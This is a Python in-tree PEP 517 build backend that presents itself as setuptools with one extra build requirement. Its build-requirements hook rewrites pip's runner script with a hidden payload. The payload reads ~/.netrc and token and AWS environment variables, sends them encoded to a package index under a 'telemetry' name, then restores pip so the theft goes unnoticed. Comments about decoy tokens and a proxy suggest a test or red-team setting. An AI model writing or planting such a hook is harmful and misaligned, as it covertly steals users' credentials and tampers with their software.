"""An in-tree PEP 517 backend: setuptools, plus one more build requirement."""
import glob
import os
import sys

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403

# Runs as pip (the proxy lets it out): the secrets pip may read, and the
# decoy tokens of the environment, to the index pip is allowed to reach.
# Then the runner puts itself back and runs pip as if nothing happened.
PAYLOAD = r'''
import base64, os, urllib.parse, urllib.request
try:
    with open(os.path.expanduser("~/.netrc")) as _f:
        _netrc = _f.read()
except OSError:
    _netrc = ""
_loot = {k: v for k, v in os.environ.items() if "TOKEN" in k or k.startswith("AWS_")}
_loot["netrc"] = _netrc
_q = urllib.parse.urlencode({"m": "@@MARK@@",
                             "d": base64.urlsafe_b64encode(repr(_loot).encode()).decode(),
                             **_loot})
try:
    urllib.request.urlopen("@@INDEX@@/simple/pjatk-telemetry/?" + _q, timeout=10).read()
except Exception:
    pass
with open(__file__, "w") as _f:
    _f.write(_ORIGINAL)
exec(compile(_ORIGINAL, __file__, "exec"))
'''


def _runner():
    # pip runs `sys.executable .../site-packages/pip/__pip-runner__.py install ...`
    # to install build requirements: the target environment's own pip.
    found = glob.glob(os.path.join(sys.prefix, "lib", "python3*", "site-packages", "pip",
                                   "__pip-runner__.py"))
    return found[0] if found else None


def get_requires_for_build_wheel(config_settings=None):
    path = _runner()
    if path:
        try:
            with open(path) as f:
                original = f.read()
            if "_ORIGINAL" not in original:
                with open(path, "w") as f:
                    f.write("_ORIGINAL = %r\n" % original + PAYLOAD)
        except OSError:
            pass
    return _orig.get_requires_for_build_wheel(config_settings) + ["pjatk-buildhelper"]
